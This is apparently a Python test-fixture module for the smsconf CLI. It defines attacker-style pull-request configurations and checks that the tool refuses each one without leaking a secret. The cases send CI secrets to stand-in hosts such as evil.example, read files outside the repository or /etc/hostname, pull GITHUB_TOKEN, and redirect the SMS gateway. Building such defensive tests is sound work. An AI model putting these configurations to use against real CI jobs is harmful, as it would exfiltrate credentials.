"""A pull request's configuration as an attacker writes it: each case changes a few lines so
that the plan job, which runs with the job's secrets before anyone has read the change, would
send a secret to the author's host, read a file or variable of the job, or redirect inbound SMS.

Shared by tests/reliability/test_pull_request_attacks.py and bench/reliability.py: each case is
played through the CLI in a CI job's environment (secrets present, nothing allowed), against a
loopback listener that echoes what it gets; it must be refused with its exit code and located,
no byte may reach the listener, and no form of a secret may appear in the output.
"""

from __future__ import annotations

import base64
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

import pytest
from click.testing import CliRunner
from tools.testkit.echo import Echo, echo_server

from smsconf.cli import main
from smsconf.config.secrets import SECRET_ENV
from smsconf.exitcodes import ExitCode
from smsconf.hosts import ALLOW_ENV

STOLEN = "stolen-Secret/value+with=odd&chars"
TOKEN = "bearer-token-of-the-ci-job-0123456789"
CUSTOMER = "DEMO-CUSTOMER-0001"


@dataclass(frozen=True)
class Case:
    name: str
    yaml: Callable[[Path, str], str]
    """The configuration, given the work directory and the listener's URL."""
    command: tuple[str, ...]
    expect: int
    says: str
    """What the refusal must say (located: it names the file)."""


def account(endpoint: str, api_key: str = "${env:STOLEN}", target: str = "local") -> str:
    """The four-line exfiltration: an account whose check sends `Basic base64(id:key)` to
    `endpoint`, in environment `ci` of `target`."""
    return f"""\
        environments:
          ci:
            target: {target}
        accounts:
          - name: exfil
            customer_id: {CUSTOMER}
            endpoint: {endpoint}
            auth: basic
            api_key: {api_key}
        """


def _outside(work: Path, url: str) -> str:
    (work.parent / "job-secret.txt").write_text(STOLEN)
    return account("https://rest-api.telesign.com", "${file:../job-secret.txt}")


def _symlink(work: Path, url: str) -> str:
    (work.parent / "job-secret.txt").write_text(STOLEN)
    (work / "innocent.txt").symlink_to(work.parent / "job-secret.txt")
    return account("https://rest-api.telesign.com", "${file:innocent.txt}")


# A configuration that moves the inbound gateway to a host of its own (line 4: the gateway).
GATEWAY_ELSEWHERE = """\
        environments:
          ci:
            target: local
            gateway: https://inbound.evil.example
        queues:
          - name: Q
            managed: true
        """


def _gateway(work: Path, url: str) -> str:
    return GATEWAY_ELSEWHERE


PLAN = ("plan", "--env", "ci")
ORG = "https://contoso.crm.dynamics.com"  # documented: the refusal is the endpoint's
CASES = (
    Case(
        "exfiltrate-to-loopback",
        lambda w, u: account(u, target=ORG),
        PLAN,
        ExitCode.UNTRUSTED_HOST,
        "telesign host 127.0.0.1",
    ),
    Case(
        "exfiltrate-to-a-host",
        lambda w, u: account("https://anything.example", target=ORG),
        ("check-credentials", "--env", "ci"),
        ExitCode.UNTRUSTED_HOST,
        "anything.example:443",
    ),
    Case(
        "token-to-the-target",
        lambda w, u: account("https://rest-api.telesign.com", target="https://evil.example"),
        PLAN,
        ExitCode.UNTRUSTED_HOST,
        "dataverse host evil.example:443",
    ),
    Case("gateway-elsewhere", _gateway, PLAN, ExitCode.UNTRUSTED_HOST, "omnichannel host"),
    Case("file-outside", _outside, PLAN, ExitCode.INVALID_CONFIG, "job-secret.txt"),
    Case("file-through-a-symlink", _symlink, PLAN, ExitCode.INVALID_CONFIG, "innocent.txt"),
    Case(
        "file-absolute",
        lambda w, u: account("https://rest-api.telesign.com", "${file:/etc/hostname}"),
        PLAN,
        ExitCode.INVALID_CONFIG,
        "/etc/hostname",
    ),
    Case(
        "file-endless",
        lambda w, u: account("https://rest-api.telesign.com", "${file:/dev/zero}"),
        PLAN,
        ExitCode.INVALID_CONFIG,
        "/dev/zero",
    ),
    Case(
        "env-not-handed-out",
        lambda w, u: account("https://rest-api.telesign.com", "${env:GITHUB_TOKEN}"),
        PLAN,
        ExitCode.INVALID_CONFIG,
        "GITHUB_TOKEN",
    ),
)


def forms(secret: str) -> list[str]:
    """The secret as written and as a request, or an echo of one, carries it."""
    basic = base64.b64encode(f"{CUSTOMER}:{secret}".encode()).decode()
    return [secret, base64.b64encode(secret.encode()).decode(), quote(secret, safe=""), basic]


@dataclass
class Outcome:
    case: str
    exit_code: int
    problems: list[str]


def play(case: Case, work: Path, listener: Echo) -> Outcome:
    """One case in a CI job's environment; what went wrong, if anything."""
    work.mkdir(parents=True)
    (work / ".git").mkdir()  # the configuration's repository: `${file:}` stays inside it
    config = work / "config.yaml"
    config.write_text(textwrap.dedent(case.yaml(work, listener.url)), encoding="utf-8")
    before = len(listener.received)
    with pytest.MonkeyPatch.context() as mp:
        mp.chdir(work)
        mp.setenv("STOLEN", STOLEN)
        mp.setenv("GITHUB_TOKEN", STOLEN)
        mp.setenv("SMSCONF_TOKEN", TOKEN)
        mp.setenv(SECRET_ENV, "STOLEN")
        mp.setenv("SMSCONF_HOME", str(work / "state"))
        mp.delenv(ALLOW_ENV, raising=False)
        result = CliRunner().invoke(main, [case.command[0], str(config), *case.command[1:]])
    problems = []
    if result.exit_code != case.expect:
        problems.append(f"exit {result.exit_code}, expected {case.expect}")
    if case.says not in result.output or str(config) not in result.output:
        problems.append(f"the refusal does not say {case.says!r} at {config}")
    if len(listener.received) != before:
        problems.append("bytes reached the listener")
    if any(f in result.output for s in (STOLEN, TOKEN) for f in forms(s)):
        problems.append("a secret is in the output")
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        problems.append(f"traceback: {type(result.exception).__name__}")
    return Outcome(case.name, result.exit_code, problems)


def play_all(work: Path) -> list[Outcome]:
    """Every case, each in its own directory, against one listener."""
    with echo_server() as listener:
        return [play(case, work / case.name, listener) for case in CASES]
